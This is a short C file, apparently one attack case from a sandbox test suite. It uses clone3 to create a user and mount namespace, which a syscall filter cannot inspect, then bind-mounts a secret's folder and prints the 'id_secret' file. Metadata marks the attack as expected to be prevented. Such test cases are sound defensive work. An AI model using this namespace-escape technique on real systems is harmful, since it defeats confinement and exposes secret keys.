/* A user namespace by clone3, whose flags no filter sees, gives the right to mount the secret's folder elsewhere.
 *
 * seen: syscall
 * enforce: prevented
 * works: root user
 */
#include "attack.h"

#include <linux/sched.h>
#include <sys/mount.h>

void attack(void) {
    struct clone_args args = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
    pid_t pid = (pid_t)syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) {
        char folder[4096];
        strcpy(folder, given("SECRET"));
        *strrchr(folder, '/') = 0;
        mkdir(work("m"), 0777);
        mount(folder, work("m"), NULL, MS_BIND, NULL);
        print_file(work("m/id_secret"));
        _exit(0);
    }
    waitpid(pid, NULL, 0);
}
